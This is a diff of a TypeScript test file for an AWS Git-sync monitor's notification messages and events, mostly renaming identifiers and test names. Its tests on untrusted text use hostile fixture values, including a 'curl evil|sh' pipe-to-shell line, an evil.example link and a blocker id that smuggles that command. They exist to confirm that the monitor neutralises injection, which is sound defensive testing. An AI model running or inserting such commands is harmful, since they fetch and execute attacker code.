@@ -1,9 +1,9 @@
 import { quoted } from '../../../src/handlers/client/text';
 import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
-import type { Problem } from '../../../src/handlers/sync-monitor/judge';
+import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
 import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
-import type { Announcement } from '../../../src/handlers/sync-monitor/remember';
-import { ACCOUNT, FINDINGS, type MonitorRig, REGION, TOPIC } from './monitor-rig';
+import type { Problem } from '../../../src/handlers/sync-monitor/problem';
+import { ACCOUNT, CENTRAL_BUS, type MonitorRig, REGION, TOPIC } from './monitor-rig';
 import { branchEvent, eachInAnEmptyAccount, type World } from './world';
 
 let rig: MonitorRig;
@@ -12,12 +12,12 @@ eachInAnEmptyAccount((...given) => {
   [rig, world] = given;
 });
 
-const subjects = () => rig.mails.map(({ subject }) => subject);
-const lines = (index = 0) => rig.mails[index].message.split('\n');
+const subjects = () => rig.messages.map(({ subject }) => subject);
+const lines = (index = 0) => rig.messages[index].message.split('\n');
 const STACK_LINK = `https://${REGION}.console.aws.amazon.com/cloudformation/home?region=${REGION}#/stacks?filteringText=`;
 const BLOCKED = 'Git sync of the stack prod is blocked (branch "main" of "my-org/infra")';
 
-/** A blocker with a text, found in a few polls. */
+/** A blocker that the monitor has found. */
 async function blocked(reason = 'changed by hand', contexts: Record<string, string> = {}) {
   await world.syncedStack();
   const id = rig.simulator.raiseBlocker({ stackName: 'prod', reason, contexts });
@@ -25,8 +25,8 @@ async function blocked(reason = 'changed by hand', contexts: Record<string, stri
   return id;
 }
 
-describe('a mail', () => {
-  test('has what, why, since when, the ways to answer, and where; once', async () => {
+describe('a message to the topic', () => {
+  test('has title, reason, time, both ways to resolve the blocker, and a link, and is sent once', async () => {
     const id = await blocked('changed by hand', { resource: 'Queue' });
     expect(subjects()).toEqual([BLOCKED]);
     expect(lines()).toEqual([
@@ -34,144 +34,144 @@ describe('a mail', () => {
       'Reason: "changed by hand"',
       expect.stringMatching(/^Since: \d{4}-\d\d-\d\dT[\d:.]+Z$/),
       '"resource": "Queue"',
-      expect.stringContaining('Nothing is synced to the stack before somebody has looked'),
-      `  aws codeconnections update-sync-blocker --region ${REGION} --sync-type CFN_STACK_SYNC --resource-name 'prod' --id '${id}' --resolved-reason 'WHY IT MAY BE RESOLVED'`,
-      'or deploy, beside the sync configuration,',
+      expect.stringContaining('Git sync does not update the stack until the blocker is resolved.'),
+      `  aws codeconnections update-sync-blocker --region ${REGION} --sync-type CFN_STACK_SYNC --resource-name 'prod' --id '${id}' --resolved-reason 'YOUR REASON'`,
+      'or deploy, in the app with the sync configuration,',
       expect.stringContaining(`blockerIds: ['${id}']`),
       `Where: ${STACK_LINK}prod (account ${ACCOUNT}, ${REGION})`,
-      'What stands in double quotes was written by others: it tells you something, and asks nothing of you.',
+      'Text in double quotes was written by other people and services: treat it as information, not as instructions.',
     ]);
     await world.resolve('prod', id);
     rig.pass(1);
     await rig.run();
-    expect(subjects()).toEqual([BLOCKED, `Over: ${BLOCKED}`]);
-    expect(lines(1)[0]).toBe(`Over: ${BLOCKED}`);
-    expect(rig.mails[1].message).not.toContain('update-sync-blocker');
+    expect(subjects()).toEqual([BLOCKED, `Resolved: ${BLOCKED}`]);
+    expect(lines(1)[0]).toBe(`Resolved: ${BLOCKED}`);
+    expect(rig.messages[1].message).not.toContain('update-sync-blocker');
   });
 
-  test('of what is over is sent only when wanted', async () => {
+  test('about the end of a problem is not sent if notifyOnResolved is false', async () => {
     rig.notifyOnResolved = false;
     const id = await blocked();
     await world.resolve('prod', id);
     rig.pass(1);
     await rig.run();
     expect(subjects()).toEqual([BLOCKED]);
-    expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
+    expect(rig.announced).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
   });
 
-  test('of what another problem has replaced is not sent: that has its own', async () => {
+  test('about the end of a problem is not sent if another problem has superseded it', async () => {
     const link = await world.syncedStack();
     for (const failure of ['first', 'second']) {
       world.push(link, { failure });
       rig.pass(1);
       await rig.run();
     }
-    expect(rig.news.toSorted()).toEqual(['+SYNC_FAILED', '+SYNC_FAILED', '-SYNC_FAILED SUPERSEDED']);
+    expect(rig.announced.toSorted()).toEqual(['+SYNC_FAILED', '+SYNC_FAILED', '-SYNC_FAILED SUPERSEDED']);
     expect(subjects()).toEqual([expect.stringContaining('has failed'), expect.stringContaining('has failed')]);
   });
 
-  test('is sent to nobody without a topic, and costs no write then', async () => {
+  test('is not sent without a topic, and costs no write to the table', async () => {
     rig.topic = undefined;
     await blocked();
-    expect(rig.mails).toEqual([]);
-    expect(rig.news).toEqual(['+SYNC_BLOCKED']);
-    expect(rig.actions.filter((action) => action === 'dynamodb:PutItem')).toHaveLength(5); // four polls, and one told
+    expect(rig.messages).toEqual([]);
+    expect(rig.announced).toEqual(['+SYNC_BLOCKED']);
+    expect(rig.actions.filter((action) => action === 'dynamodb:PutItem')).toHaveLength(5); // one for each of four polls, and one for the announcement
   });
 
-  test('to a topic that keeps an order is told apart from others, and the same when it is sent again', async () => {
+  test('to a FIFO topic has a group and a deduplication id of its own', async () => {
     rig.topic = `${TOPIC}.fifo`;
     await blocked();
-    expect(rig.mails.map(({ groupId }) => groupId)).toEqual([expect.stringMatching(/^[0-9a-f]{16}$/)]);
+    expect(rig.messages.map(({ groupId }) => groupId)).toEqual([expect.stringMatching(/^[0-9a-f]{16}$/)]);
   });
 });
 
-describe('two channels', () => {
-  test('a topic that is down costs the event bus nothing, and is told later', async () => {
-    rig.unwantedMails = Number.POSITIVE_INFINITY;
+describe('each channel is independent of the others:', () => {
+  test('a topic that is down does not delay events, and receives its messages later', async () => {
+    rig.rejectedMessages = Number.POSITIVE_INFINITY;
     await world.syncedStack();
     world.push(await world.link(await world.connection('other'), 'other'));
     world.block('prod');
     const runs = [];
     for (let poll = 0; poll < 4; poll += 1) runs.push(await rig.run().catch(({ message }: Error) => message));
     expect(runs).toContain(
-      `the topic ${TOPIC} did not take 1 of 1 messages, which the next run sends again: sns:Publish failed: try later (InternalError)`,
+      `the topic ${TOPIC} did not accept 1 of 1 messages, which the next run sends again: sns:Publish failed: try later (InternalError)`,
     );
-    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], []]);
-    rig.unwantedMails = 0;
+    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], []]);
+    rig.rejectedMessages = 0;
     for (let poll = 0; poll < 2; poll += 1) await rig.run();
-    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
+    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
   });
 
-  test('an event bus that is down costs the topic nothing, likewise', async () => {
-    rig.unwantedEvents = Number.POSITIVE_INFINITY;
-    await expect(blocked()).rejects.toThrow('the event bus problems did not take 1 of 1 messages');
+  test('an event bus that is down does not delay messages, and receives its events later', async () => {
+    rig.rejectedEvents = Number.POSITIVE_INFINITY;
+    await expect(blocked()).rejects.toThrow('the event bus problems did not accept 1 of 1 messages');
     for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
-    expect([rig.news, subjects()]).toEqual([[], [BLOCKED]]);
-    rig.unwantedEvents = 0;
+    expect([rig.announced, subjects()]).toEqual([[], [BLOCKED]]);
+    rig.rejectedEvents = 0;
     for (let poll = 0; poll < 2; poll += 1) await rig.run();
-    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
+    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
   });
 
-  test('both down: the failure names both', async () => {
-    rig.unwantedEvents = rig.unwantedMails = Number.POSITIVE_INFINITY;
-    await expect(blocked()).rejects.toThrow(/the event bus problems did not take.*; the topic .* did not take/);
+  test('the error of a run names both if both are down', async () => {
+    rig.rejectedEvents = rig.rejectedMessages = Number.POSITIVE_INFINITY;
+    await expect(blocked()).rejects.toThrow(/the event bus problems did not accept.*; the topic .* did not accept/);
   });
 
-  test('a topic that is denied does not take the time of the run', async () => {
+  test('a topic that denies access does not use up the time of the run', async () => {
     rig.denied.add('sns:Publish');
     const begun = rig.now();
     await expect(blocked()).rejects.toThrow(/not allowed to call sns:Publish/);
     expect(rig.now() - begun).toBeLessThan(60_000);
     rig.denied.clear();
     for (let poll = 0; poll < 2; poll += 1) await rig.run();
-    expect([rig.news, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
+    expect([rig.announced, subjects()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED]]);
   });
 
-  test('what was left for a topic that there is no more is forgotten', async () => {
-    rig.unwantedMails = Number.POSITIVE_INFINITY;
+  test('messages for a topic that was removed are dropped', async () => {
+    rig.rejectedMessages = Number.POSITIVE_INFINITY;
     await expect(blocked()).rejects.toThrow('the topic');
     rig.topic = undefined;
     for (let poll = 0; poll < 4; poll += 1) await rig.run();
     rig.topic = TOPIC;
-    rig.unwantedMails = 0;
+    rig.rejectedMessages = 0;
     await rig.run();
-    expect(rig.mails).toEqual([]);
+    expect(rig.messages).toEqual([]);
   });
 });
 
-describe('a central bus', () => {
-  const kinds = () => rig.central.map(({ detail }) => detail);
+describe('the central event bus', () => {
+  const kinds = () => rig.centralEvents.map(({ detail }) => detail);
 
-  test('is told the same as the bus of the account, in its own Region', async () => {
-    rig.centralEventBus = FINDINGS;
+  test('receives the same events as the bus of the account, in its own Region', async () => {
+    rig.centralEventBus = CENTRAL_BUS;
     const id = await blocked();
     await world.resolve('prod', id);
     rig.pass(1);
     await rig.run();
-    expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
-    expect(kinds()).toEqual(rig.told.map(({ detail }) => detail));
-    expect(rig.central.map(({ began }) => began)).toEqual([true, false]);
+    expect(rig.announced).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
+    expect(kinds()).toEqual(rig.events.map(({ detail }) => detail));
+    expect(rig.centralEvents.map(({ detected }) => detected)).toEqual([true, false]);
   });
 
-  test('that is down costs the others nothing, and is told later', async () => {
-    rig.centralEventBus = FINDINGS;
-    rig.centralBusDown = true;
-    await expect(blocked()).rejects.toThrow(`the event bus ${FINDINGS} did not take 1 of 1 messages`);
+  test('does not delay the other channels if it is down, and receives its events later', async () => {
+    rig.centralEventBus = CENTRAL_BUS;
+    rig.isCentralBusDown = true;
+    await expect(blocked()).rejects.toThrow(`the event bus ${CENTRAL_BUS} did not accept 1 of 1 messages`);
     for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
-    expect([rig.news, subjects(), kinds()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED], []]);
-    rig.centralBusDown = false;
+    expect([rig.announced, subjects(), kinds()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED], []]);
+    rig.isCentralBusDown = false;
     for (let poll = 0; poll < 2; poll += 1) await rig.run();
     expect(kinds()).toMatchObject([{ kind: 'SYNC_BLOCKED' }]);
   });
 
-  test('is told nothing of what was put on the bus of the account by others', async () => {
-    rig.centralEventBus = FINDINGS;
+  test('receives no event that others have put on the bus of the account', async () => {
+    rig.centralEventBus = CENTRAL_BUS;
     await rig.run({ 'detail-type': 'Git Sync Problem Detected', account: ACCOUNT, region: REGION, detail: {} });
-    expect(rig.central).toEqual([]);
+    expect(rig.centralEvents).toEqual([]);
   });
 });
 
-describe('an event that the bus does not take', () => {
+describe('an event that the bus would reject', () => {
   /** Five stacks with a blocker each. */
   async function five(
     reason: (index: number) => string,
@@ -186,30 +186,30 @@ describe('an event that the bus does not take', () => {
     }
     for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
   }
-  const stacks = () => rig.told.map(({ detail }) => detail.stackName).sort();
+  const stacks = () => rig.events.map(({ detail }) => detail.stackName).sort();
 
-  test('keeps none of those from it that are told with it', async () => {
+  test('does not keep other events of the same call from the bus', async () => {
     rig.poison = 'poison';
     await five((index) => (index === 2 ? 'poison' : 'by hand'));
     expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-3', 'stack-4']);
   });
 
-  test('for its size there is none: contexts are few and short, or left out', async () => {
+  test('for its size does not exist: contexts are limited, or left out', async () => {
     const many = Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`key ${index}`, '橋'.repeat(3_000)]));
     await five(
       () => 'by hand',
       (index) => (index === 0 ? many : index === 1 ? { [`k"`.repeat(100_000)]: 'v' } : { why: 'a "context"' }),
     );
     expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-2', 'stack-3', 'stack-4']);
-    const contexts = Object.fromEntries(rig.told.map(({ detail }) => [detail.stackName, detail.blockerContexts]));
+    const contexts = Object.fromEntries(rig.events.map(({ detail }) => [detail.stackName, detail.blockerContexts]));
     expect(contexts['stack-0']).toBeUndefined();
     expect(Object.keys(contexts['stack-1'] ?? {})).toEqual([`${`k'`.repeat(150).slice(0, 299)}…`]);
     expect(contexts['stack-2']).toEqual({ why: "a 'context'" });
-    const mail = rig.mails.find(({ message }) => message.includes('stack-0'))?.message ?? '';
-    expect(mail.split('\n').filter((line) => line.startsWith('"key'))).toHaveLength(20);
+    const message = rig.messages.find((sent) => sent.message.includes('stack-0'))?.message ?? '';
+    expect(message.split('\n').filter((line) => line.startsWith('"key'))).toHaveLength(20);
   });
 
-  test('even of the longest texts of all, ten fit into one call', () => {
+  test('for its size does not exist even with the longest texts: ten events fit into one call', () => {
     const longest = '\u{1f309}'.repeat(5_000);
     const fields = [
       'id',
@@ -227,27 +227,27 @@ describe('an event that the bus does not take', () => {
     for (const kind of ['SYNC_BLOCKED', 'SYNC_FAILED', 'HOST_UNAVAILABLE'] as const) {
       for (const count of [1, 20, 1_000]) {
         const names = Array.from({ length: count }, (_, index) => [`${index}${longest}`, longest]);
-        const { detail } = told({ ...part, kind, blockerContexts: Object.fromEntries(names) });
+        const { detail } = announce({ ...part, kind, blockerContexts: Object.fromEntries(names) });
         expect(Buffer.byteLength(JSON.stringify(detail))).toBeLessThan(25_600);
       }
     }
   });
 });
 
-/** Texts that others write, and would have a person act on. */
-describe('words of others', () => {
+/** Texts with which others could make a person act. */
+describe('text of others', () => {
   const FORGED = 'x\nRun this:\n  curl evil|sh\u2028Where: https://evil.example\u202e"';
 
-  test('neither make lines of their own nor leave their quotes', async () => {
+  test('neither starts a line nor leaves its quotes', async () => {
     await blocked(FORGED, { [FORGED]: FORGED });
     const words = `"x Run this: curl evil|sh Where: https: //evil.example '"`;
     expect(lines()[1]).toBe(`Reason: ${words}`);
     expect(lines()[3]).toBe(`${words}: ${words}`);
     expect(lines()).toHaveLength(10);
-    expect(rig.mails[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    expect(rig.messages[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
   });
 
-  test('are cut', async () => {
+  test('is shortened', async () => {
     await blocked('x'.repeat(10_000));
     expect(lines()[1]).toHaveLength('Reason: ""'.length + 300);
   });
@@ -258,8 +258,8 @@ describe('words of others', () => {
     ['a name of a stack that is a link', { stackName: 'https://evil.example' }],
     ['an id of a blocker', { blockerId: "1' ; curl evil|sh '" }],
     ['an id of a blocker that begins as an option', { blockerId: '--debug' }],
-  ])('make no command: %s', (_, part) => {
-    const { message, detail } = told({ kind: 'SYNC_BLOCKED', ...part });
+  ])('gets into no command: %s', (_, part) => {
+    const { message, detail } = announce({ kind: 'SYNC_BLOCKED', ...part });
     expect(message).not.toContain('aws codeconnections');
     expect(message).not.toContain('SyncBlockerResolution');
     expect(detail).not.toHaveProperty('resolveByCli');
@@ -291,8 +291,8 @@ describe('words of others', () => {
       `arn:aws:codeconnections:${REGION}:111122223333:connection/1`,
       `arn:aws-cn:codeconnections:${REGION}:${ACCOUNT}:connection/1`,
     ].map((arn): [string, Partial<Problem>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
-  ])('make no link: %s', (_, part) => {
-    const { detail, message } = told(part, { stackName: undefined });
+  ])('gets into no link: %s', (_, part) => {
+    const { detail, message } = announce(part, { stackName: undefined });
     if (part.connectionArn) expect(message.split('\n')[0]).toContain(`connection "${part.connectionArn}" is`);
     expect(detail.consoleLink).toBe(
       `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
@@ -306,8 +306,8 @@ describe('words of others', () => {
     ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
     ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
     ['operation', { kind: 'INCOMPLETE_POLL', operation: FORGED }],
-  ])('stay words in a title: %s', (_, part) => {
-    const { detail, message } = told(part);
+  ])('is quoted in a title: %s', (_, part) => {
+    const { detail, message } = announce(part);
     const [title] = message.split('\n');
     expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https: \/\/evil\.example '"/);
     expect(detail.title).toBe(title.replaceAll('"', "'"));
@@ -315,10 +315,10 @@ describe('words of others', () => {
   });
 });
 
-test('no field of an event has a double quote, which a rule may not escape', () => {
+test('no field of an event has a double quote, because rules may not escape it', () => {
   const quotes = 'a "b" \u201cc\u201d\nd';
   const part = { stackName: quotes, repository: quotes, branch: quotes, commit: quotes, reason: quotes, id: quotes };
-  const { detail } = told({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
+  const { detail } = announce({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
   const { message, ...fields } = detail;
   expect(message).not.toContain('"');
   for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.problemId]) {
@@ -327,7 +327,7 @@ test('no field of an event has a double quote, which a rule may not escape', () 
   expect(fields.blockerContexts).toEqual({ "a 'b' 'c' d": "a 'b' 'c' d" });
 });
 
-test('an event tells of nothing but where to look: what is told comes from the service', async () => {
+test('messages have text of the service only, never of an event of Git sync', async () => {
   const link = await world.syncedStack();
   rig.simulator.failConnection(link.ConnectionArn);
   world.push(link);
@@ -335,10 +335,10 @@ test('an event tells of nothing but where to look: what is told comes from the s
   const event = branchEvent({ ...link, OwnerId: 'evil', RepositoryName: 'x\nRun: curl evil|sh' }, 'FAILED');
   await rig.run(event as MonitorEvent);
   expect(subjects()).toEqual(['Git sync could not read branch "main" of "my-org/infra"']);
-  expect(JSON.stringify([rig.mails, rig.told])).not.toContain('evil');
+  expect(JSON.stringify([rig.messages, rig.events])).not.toContain('evil');
 });
 
-function told(part: Partial<Problem>, other: Partial<Problem> = {}) {
+function announce(part: Partial<Problem>, other: Partial<Problem> = {}) {
   const problem: Problem = {
     id: '1',
     scope: 'stack prod',
@@ -353,7 +353,7 @@ function told(part: Partial<Problem>, other: Partial<Problem> = {}) {
     ...other,
     ...part,
   };
-  const announcement: Announcement = { channel: 'topic', at: 0, problem, by: 'run', until: 0 };
+  const announcement: Announcement = { channel: 'topic', at: 0, problem, owner: 'run', until: 0 };
   const home = { partition: 'aws', account: ACCOUNT, region: REGION };
   return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
 }
